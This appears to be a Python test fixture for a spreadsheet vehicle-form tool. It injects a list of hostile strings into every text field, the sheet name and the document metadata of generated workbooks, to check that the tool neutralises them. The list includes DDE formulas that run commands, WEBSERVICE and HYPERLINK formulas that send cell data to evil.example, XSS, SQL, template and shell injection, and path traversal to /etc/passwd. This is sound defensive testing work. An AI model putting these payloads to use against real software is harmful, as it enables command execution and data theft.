"""Texts that would come alive in a spreadsheet, a page, a template, a database, a mail or a terminal.

Each stands in every text field of a form, in a heading, in the name of a sheet and in what the workbook says
of itself. Its vehicle is else in order: what the checks let through goes on into package, result and page.
"""

from __future__ import annotations

import io
import zipfile
from xml.sax.saxutils import escape

from attacks import READ, add
from foreign import zipped

from vinbatch import samples
from vinbatch.effects.rulebook import packaged_rulebook
from vinbatch.model import STRUCTURE, VEHICLE, Kind
from vinbatch.ruleset import Ruleset, compile_rules

TEXTS: dict[str, str] = {
    "formula": "=1+1",
    "dde": "=cmd|'/c calc'!A1",
    "dde_old": "=DDE(\"cmd\";\"/c calc\";\"evil\")",
    "hyperlink_formula": "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
    "web_service": "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "plus": "+1+cmd|'/c calc'!A1",
    "minus": "-1+cmd|'/c calc'!A1",
    "at": "@SUM(1+1)*cmd|'/c calc'!A1",
    "full_width": "＝cmd|'/c calc'!A1",
    "full_width_at": "＠SUM(1)",
    "tab_formula": "\t=1+1",
    "return_formula": "\r=1+1",
    "quote_formula": "\"=1+1",
    "comma_formula": "x,\"=1+1\",\"",
    "row_formula": "x\n=1+1",
    "web": "http://evil.example/x",
    "file": "file:///etc/passwd",
    "share": "\\\\evil.example\\share\\x",
    "mail_link": "mailto:evil@example.com?body=x",
    "script_link": "javascript:evil()",
    "error": "#N/A",
    "error_reference": "#REF!",
    "truth": "TRUE",
    "number": "1e999",
    "html": "<script>evil()</script><img src=x onerror=evil()>",
    "html_attribute": "\" onmouseover=\"evil()\" x='",
    "html_comment": "--><evil/><!--",
    "xml": "]]></Colour><Vin>EVIL</Vin><![CDATA[",
    "xml_entity": "&lt;evil/&gt;&#60;evil/&#62;&xxe;",
    "jinja": "{{7*7}}{{cycler.__init__.__globals__}}",
    "jinja_comment": "{#evil#}${7*7}#{7*7}<%=7*7%>",
    "format": "%s%d%n{0.__class__}{evil}",
    "sql": "'; DROP TABLE record; --",
    "sql_union": "' UNION SELECT body FROM record --",
    "shell": "$(touch evil)`touch evil`;touch evil",
    "path": "../../../../etc/passwd",
    "mail_header": "x\r\nBcc: evil@example.com\r\n\r\nevil",
    "mail_dot": "x\r\n.\r\nMAIL FROM:<evil@example.com>",
    "escape": "\x1b[2J\x1b]0;evil\x07\x1b[31m",
    "escape_c1": "\x9b2J\x9d0;evil\x9c",
    "escape_link": "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "backspace": "good\b\b\b\bevil",
    "return": "good\revil",
    "markup": "[red]x[/red][link=http://evil.example]x[/link]",
    "right_to_left": "\u202egood\u202c \u2066x",
    "invisible": "a\u200b\u2060\ufeff\u00ad\U000e0041",
    "variation": "一\ufe0f\U000e0100",
    "escaped_null": "a_x0000_b_x001B_c",
    "escaped_surrogate": "a_xD800_b_xDC00_",
    "escaped_escape": "a_x005F_x000D_b",
    "noncharacter": "a\ufffeb\uffff",
    "null": "a\x00b",
    "delete": "a\x7fb",
    "combining": "a" + "\u0301" * 500,
    "long": "长" * 32_767,
    "longer": "x" * 40_000,
    "mark": "WBA13BJ03MCF12345@1:0123456789ab",
    "refill": "#请重填",
    "placeholder": "{count}{limit}@state.draft",
    "word": "@act.申报",
}  # fmt: skip
RULES: Ruleset = compile_rules(packaged_rulebook())
_TEXTUAL = (Kind.TEXT, Kind.CODE)


def vehicle(n: int) -> samples.Cells:
    """The n-th vehicle that is in order."""
    return samples.vehicles(n + 1, models=samples.MODELS[:1])[n]


def form(text: str, n: int) -> bytes:
    """A form with this text in every place where a text may stand."""
    good = {**vehicle(n), "remarks": text, "colour": text}
    everywhere: samples.Cells = {f.key: text for f in RULES.fields(VEHICLE)}
    number = str(good["structure_no"])
    sets = [samples.parameters(samples.MODELS[:1])[0]]
    textual = [f.key for f in RULES.fields(STRUCTURE) if f.kind in _TEXTUAL and f.key != "structure_no"]
    sets.append({**sets[0], "structure_no": f"{number}-{n}", **dict.fromkeys(textual, text)})
    second: samples.Cells = {**vehicle(n + 1000), "structure_no": f"{number}-{n}", "action": "暂存"}
    data = samples.workbook(RULES, [good, everywhere, second], sets)
    return _more(data, text)


def _more(data: bytes, text: str) -> bytes:
    """The text as heading and content of an unknown column, as a sheet's name, as the last who saved."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        made: dict[str, str | bytes] = {i.filename: z.read(i) for i in z.infolist()}
    safe = _xml(text)
    sheet = bytes(made["xl/worksheets/sheet1.xml"]).decode()
    for row in (1, 2, 3):
        end = sheet.index("</row>", sheet.index(f'<row r="{row}"'))
        cell = f'<c r="AA{row}" t="inlineStr"><is><t xml:space="preserve">{safe}</t></is></c>'
        sheet = sheet[:end] + cell + sheet[end:]
    made["xl/worksheets/sheet1.xml"] = sheet.encode()
    book = bytes(made["xl/workbook.xml"]).decode()
    name = escape(_legal(text)[:31], {'"': "&quot;", "\n": "&#10;", "\r": "&#13;", "\t": "&#9;"})
    made["xl/workbook.xml"] = book.replace(
        "</sheets>", f'<sheet name="{name}" sheetId="9" r:id="rId1"/></sheets>'
    ).encode()
    core = bytes(made["docProps/core.xml"]).decode()
    core = core.replace("</cp:coreProperties>", "").replace("<cp:lastModifiedBy/>", "")
    head, _, tail = core.partition("<cp:lastModifiedBy>")
    tail = tail.partition("</cp:lastModifiedBy>")[2] or tail
    made["docProps/core.xml"] = (
        f"{head}<cp:lastModifiedBy>{safe}</cp:lastModifiedBy>{tail}</cp:coreProperties>".encode()
    )
    return zipped(made)


def _legal(text: str) -> str:
    """Without what XML cannot hold."""
    return "".join(c for c in text if c in "\t\n\r" or (c >= " " and c not in "\ufffe\uffff")) or "x"


def _xml(text: str) -> str:
    return escape(_legal(text)).replace("\r", "&#13;")


for _n, (_key, _text) in enumerate(TEXTS.items()):
    add(f"text_{_key}", lambda text=_text, n=_n: form(text, n), READ)
